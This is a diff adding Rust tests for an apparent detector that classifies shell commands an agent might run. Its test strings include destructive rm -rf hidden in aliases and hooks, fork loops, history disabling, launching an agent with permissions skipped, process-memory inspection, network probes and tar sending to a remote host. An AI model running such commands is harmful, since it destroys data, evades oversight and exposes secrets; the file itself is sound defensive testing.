@@ -1,0 +1,135 @@
+//! What is followed although nobody calls it by its own name: hooks, names in other letters, unknown wrappers.
+
+use std::path::Path;
+
+use super::read_command;
+use crate::effects::{EffectKind, SendHow};
+use crate::trail::Trail;
+use crate::world::{Disk, World};
+
+fn kinds(line: &str) -> Vec<EffectKind> {
+    let (disk, trail) = (Disk::with_home("/home/someone".into()), Trail::default());
+    let workspace = Path::new("/nonexistent/w");
+    let world = World::new(&disk, &trail, workspace, workspace);
+    read_command(line, None, &world).into_iter().map(|effect| effect.kind).collect()
+}
+
+fn deletes(line: &str) -> bool {
+    kinds(line).iter().any(|kind| matches!(kind, EffectKind::Delete { .. }))
+}
+
+fn exhausts(line: &str) -> bool {
+    kinds(line).iter().any(|kind| matches!(kind, EffectKind::Exhaust { .. }))
+}
+
+fn weakens(line: &str) -> bool {
+    kinds(line).iter().any(|kind| matches!(kind, EffectKind::Weaken { .. }))
+}
+
+fn opaque(line: &str) -> bool {
+    kinds(line).iter().any(|kind| matches!(kind, EffectKind::Opaque { .. }))
+}
+
+fn secret(line: &str) -> bool {
+    kinds(line).iter().any(|kind| matches!(kind, EffectKind::Secret { .. }))
+}
+
+#[test]
+fn an_alias_or_a_function_in_the_place_of_a_program_is_followed() {
+    assert!(deletes("alias make='rm -rf /srv/x; command make'"));
+    assert!(deletes("make() { rm -rf /srv/x; command make \"$@\"; }"));
+    assert!(deletes("command_not_found_handle() { rm -rf /srv/x; }"));
+    assert!(!deletes("cleanup() { rm -rf /srv/x; }"));
+    assert!(!deletes("alias sweep-up='rm -rf /srv/x'"));
+}
+
+#[test]
+fn a_command_behind_a_program_that_nobody_knows_is_followed() {
+    assert!(deletes("runner-of-things rm -rf /srv/x"));
+    assert!(!deletes("runner-of-things remove /srv/x"));
+}
+
+#[test]
+fn a_name_in_other_letters_is_the_same_program() {
+    assert!(deletes("RM -rf /srv/x"));
+}
+
+#[test]
+fn a_loop_without_end_that_starts_more_uses_up_the_machine() {
+    assert!(exhausts("while true; do work & done"));
+    assert!(exhausts("until false; do work & done"));
+    assert!(!exhausts("while true; do work & wait; done"));
+    assert!(!exhausts("while true; do work; sleep 1; done"));
+    assert!(!exhausts("while read line; do work & done"));
+}
+
+#[test]
+fn the_record_of_commands_is_a_protection() {
+    assert!(weakens("set +o history"));
+    assert!(weakens("export HISTFILE=/dev/null"));
+    assert!(!weakens("export HISTCONTROL=ignoreboth HISTSIZE=10000"));
+}
+
+#[test]
+fn an_agent_that_is_started_without_approvals_is_told() {
+    assert!(weakens("claude --dangerously-skip-permissions -p hello"));
+    assert!(!weakens("claude -p hello"));
+}
+
+#[test]
+fn letters_that_reorder_what_is_shown_are_told() {
+    assert!(opaque("rm\u{202e} -rf x"));
+    assert!(!opaque("echo שלום"));
+}
+
+#[test]
+fn processes_that_are_looked_into_are_told() {
+    for line in ["gdb -p 12", "strace -p 12", "gcore 12", "reptyr 12"] {
+        assert!(secret(line), "{line}");
+    }
+    assert!(!secret("gdb ./program"));
+}
+
+#[test]
+fn probing_a_machine_is_sending_to_it() {
+    let probes = |line: &str| {
+        kinds(line)
+            .into_iter()
+            .filter_map(|kind| match kind {
+                EffectKind::Send { to, how: SendHow::Probe, .. } => Some(to.shown),
+                _ => None,
+            })
+            .collect::<Vec<_>>()
+    };
+    assert_eq!(probes("nmap -sV 192.0.2.0/24"), ["192.0.2.0/24"]);
+    assert_eq!(probes("gobuster dir -u http://target.example -w list.txt"), ["http://target.example"]);
+    assert_eq!(probes("nmap --version"), [""; 0]);
+}
+
+#[test]
+fn tar_takes_options_from_its_variable() {
+    let sends = |line: &str| {
+        kinds(line)
+            .iter()
+            .any(|kind| matches!(kind, EffectKind::Send { .. } | EffectKind::RunElsewhere { .. }))
+    };
+    assert!(sends("TAR_OPTIONS='--create --file=host.example:/x' tar -- notes.txt"));
+    assert!(!sends("tar --create --file=x.tar notes.txt"));
+}
+
+#[test]
+fn a_library_of_the_system_that_is_called_past_python_is_followed() {
+    assert!(deletes("python3 -c \"import ctypes; ctypes.CDLL(None).system(b'rm -rf /srv/x')\""));
+}
+
+#[test]
+fn a_module_path_into_the_workspace_injects_nothing() {
+    let (disk, trail) = (Disk::with_home("/home/someone".into()), Trail::default());
+    let workspace = Path::new("/tmp/nonexistent-workspace");
+    let world = World::new(&disk, &trail, workspace, workspace);
+    let injects = |line: &str| {
+        read_command(line, None, &world).iter().any(|effect| matches!(effect.kind, EffectKind::Inject { .. }))
+    };
+    assert!(!injects("export PYTHONPATH=$PYTHONPATH:/tmp/nonexistent-workspace/src"));
+    assert!(injects("export PYTHONPATH=/tmp/elsewhere"));
+}
